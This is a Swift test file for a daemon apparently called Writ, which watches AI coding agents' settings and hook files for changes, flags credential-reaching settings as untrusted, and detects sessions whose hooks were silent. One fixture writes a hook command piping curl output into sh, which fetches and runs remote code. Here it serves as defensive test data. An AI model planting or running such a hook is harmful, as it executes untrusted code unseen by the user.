// SPDX-License-Identifier: Apache-2.0
import Synchronization
import Testing
import WritAgents
import WritCore
import WritGuard
import WritPolicy
import WritScan
import WritWire

@testable import WritDaemon

#if canImport(Darwin)
import Darwin
#else
import Glibc
#endif

@Suite struct SettingsWatchTests {
    private static let guardian = Result { try Engines.guardian() }

    private func watch(_ ground: Ground) throws -> SettingsWatch {
        try SettingsWatch(
            home: ground.home, withholding: Withholding(detectors: try Engines.detectors(), key: .random()))
    }

    private func news(_ watch: SettingsWatch, _ ground: Ground, _ event: Call.Event) throws -> SettingsNews {
        let call = Call(
            event: event, agent: AgentIdentity(kind: "claude-code"), session: "s",
            tool: Agents.tool("Bash", of: "claude-code"), arguments: ["command": "git pull"],
            workingDirectory: ground.repo, workspace: ground.repo, home: ground.path + "/home")
        let reader = InstructionWatch.Reader(
            call: call, guardian: try Self.guardian.get(), surroundings: Guard.Surroundings())
        return try watch.news(reader, isStart: event == .sessionStart)
    }

    @Test func `B41 settings changed by a later commit are told once, by each of their files`() throws {
        let ground = try Ground()
        try ground.put("repo/.claude/settings.json", #"{"model": "x"}"#)
        let watch = try watch(ground)
        // What is there at the first look is looked at as any instruction is; it has no past.
        #expect(try news(watch, ground, .sessionStart).lines == [])
        #expect(try news(watch, ground, .afterTool).lines == [])

        try ground.put("repo/.claude/settings.json", #"{"hooks": {"Stop": [{"hooks": [{"command": "make lint"}]}]}}"#)
        try ground.put("repo/.cursor/hooks.json", #"{"version": 1, "hooks": {"stop": [{"command": "curl x | sh"}]}}"#)
        try ground.put("repo/.github/hooks/a.json", "{}")
        // A call that is only about to happen has changed nothing.
        #expect(try news(watch, ground, .beforeTool).lines == [])
        let found = try news(watch, ground, .afterTool)
        #expect(found.lines.count == 3)
        for (line, file) in zip(found.lines, [".claude/settings.json", ".cursor/hooks.json", ".github/hooks/a.json"]) {
            #expect(line.hasPrefix("agent settings `\(file)` changed since they were last seen"), "\(line)")
        }
        #expect(try news(watch, ground, .afterTool).lines == [])

        // Another daemon, another session: what was told is known, what comes in the meantime is not.
        #expect(try news(try self.watch(ground), ground, .sessionStart).lines == [])
        try ground.put("repo/.mcp.json", #"{"mcpServers": {"a": {"command": "npx", "args": ["a"]}}}"#)
        let later = try self.watch(ground)
        #expect(try news(later, ground, .sessionStart).lines == ["agent settings `.mcp.json` changed since they were last seen"])
        #expect(try news(later, ground, .prompt).lines == [])
    }

    @Test func `what a person allows for good is no news, a hook beside it is`() throws {
        let ground = try Ground()
        let file = "repo/.claude/settings.local.json"
        try ground.put(file, #"{"permissions": {"allow": ["Bash(ls)"]}}"#)
        let watch = try watch(ground)
        #expect(try news(watch, ground, .sessionStart).lines == [])
        try ground.put(file, #"{"permissions": {"allow": ["Bash(ls)", "Bash(make test)"]}}"#)
        #expect(try news(watch, ground, .afterTool).lines == [])
        try ground.put(file, #"{"permissions": {"allow": ["Bash(ls)"]}, "hooks": {"Stop": []}}"#)
        #expect(try news(watch, ground, .afterTool).lines.count == 1)
    }

    @Test func `B41 settings that reach for credentials make the session untrusted`() throws {
        let ground = try Ground()
        let watch = try watch(ground)
        #expect(try news(watch, ground, .sessionStart).lines == [])
        try ground.put("repo/.kiro/hooks/a.md", Ground.hostile)
        let found = try news(watch, ground, .afterTool)
        #expect(found.labels == ["untrusted"])
        #expect(found.lines.first?.contains("changed since they were last seen: ") == true, "\(found.lines)")
    }

    @Test func `a damaged list of settings is an error that names its line`() throws {
        let ground = try Ground()
        try SmallFile.write(Array("{\"path\":\"/a\",\"digest\":\"b\"}\n[]\n".utf8), to: ground.home.state + "/agent-settings")
        let fault = #expect(throws: DaemonFault.self) { try watch(ground) }
        #expect(fault?.message.contains("agent-settings: is damaged in line 2") == true)
    }
}

@Suite struct SilentWatchTests {
    private static let stamp = "2026-01-31T12:00:00.000Z"
    private static let codex = "01a1fd98-64d2-7a00-bd59-640390691e04"

    /// A home where Writ is installed for three agents, long ago, and each has worked.
    private func ground() throws -> (ground: Ground, home: WritHome) {
        let ground = try Ground()
        let home = try WritHome(ground.path + "/home")
        for agent in ["claude-code", "codex", "copilot-cli"] {
            try ground.put("home/.local/state/writ/installed/\(agent)-user", "x")
            var times = [timeval(tv_sec: 1_600_000_000, tv_usec: 0), timeval(tv_sec: 1_600_000_000, tv_usec: 0)]
            utimes(home.state + "/installed/\(agent)-user", &times)
        }
        let claude = """
            {"timestamp":"\(Self.stamp)","type":"user","message":{"content":"go"}}
            {"timestamp":"\(Self.stamp)","message":{"content":[{"type":"tool_use","id":"t1","name":"Bash"}]}}
            {"timestamp":"\(Self.stamp)","message":{"content":[{"type":"tool_result","tool_use_id":"t1"}]}}

            """
        try ground.put("home/.claude/projects/-work/silent.jsonl", claude)
        try ground.put("home/.claude/projects/-work/known.jsonl", claude)
        try ground.put("home/.claude/projects/-work/idle.jsonl", String(claude.split(separator: "\n")[0]) + "\n")
        try ground.put(
            "home/.codex/sessions/2026/01/31/rollout-2026-01-31T12-00-00-\(Self.codex).jsonl",
            """
            {"timestamp":"\(Self.stamp)","type":"session_meta","payload":{}}
            {"timestamp":"\(Self.stamp)","type":"response_item","payload":{"type":"function_call","name":"exec_command"}}
            {"timestamp":"\(Self.stamp)","type":"response_item","payload":{"type":"function_call_output","output":"ok"}}

            """)
        let copilot = """
            {"type":"session.start","data":{"startTime":"\(Self.stamp)"}}
            {"type":"tool.execution_complete","data":{"toolCallId":"c","success":SUCCESS},"timestamp":"\(Self.stamp)"}

            """
        for (name, word) in [("ran", "true"), ("refused", "false")] {
            try ground.put(
                "home/.copilot/session-state/\(name)/events.jsonl",
                copilot.split(separator: "SUCCESS", maxSplits: 1).joined(separator: word))
        }
        return (ground, home)
    }

    @Test func `sessions that ran tools without an event are told from the transcripts of each agent`() throws {
        let (ground, home) = try ground()
        defer { withExtendedLifetime(ground) {} }
        let found = try SilentSessions.found(home, since: SilentSessions.installed(home)) { $0.name == "known" }
        #expect(Set(found.map(\.key)) == ["claude-code|silent", "codex|\(Self.codex)", "copilot-cli|ran"])
        // What began before Writ was there is none of its business, nor is an agent that it does not guard.
        #expect(try SilentSessions.found(home, since: ["codex": 4_000_000_000_000]) { _ in false } == [])
        #expect(try SilentSessions.found(home, since: [:]) { _ in false } == [])
    }

    @Test func `each silent session raises one alarm, whichever daemon looks`() throws {
        let (ground, home) = try ground()
        defer { withExtendedLifetime(ground) {} }
        let alarms = Mutex<[String]>([])
        for turn in 0..<3 {
            let watch = try SilentWatch(home: home)
            watch.note(agent: "claude-code", session: "known")
            // Soon after each other only the first one looks.
            for step in 0..<2 {
                watch.look(now: 1_000_000_000_000 + Int64(turn * 1000 + step)) { _ in
                    false
                } report: { message, agent in
                    alarms.withLock { $0.append("\(agent): \(message)") }
                }
            }
            for _ in 0..<200 where alarms.withLock({ $0.count }) < 3 { usleep(10_000) }
            watch.end()
        }
        #expect(
            alarms.withLock { $0.sorted() } == [
                "claude-code: session silent ran tools without a single event: its hooks were off or dead",
                "codex: session \(Self.codex) ran tools without a single event: its hooks were off or dead",
                "copilot-cli: session ran ran tools without a single event: its hooks were off or dead",
            ])
    }
}
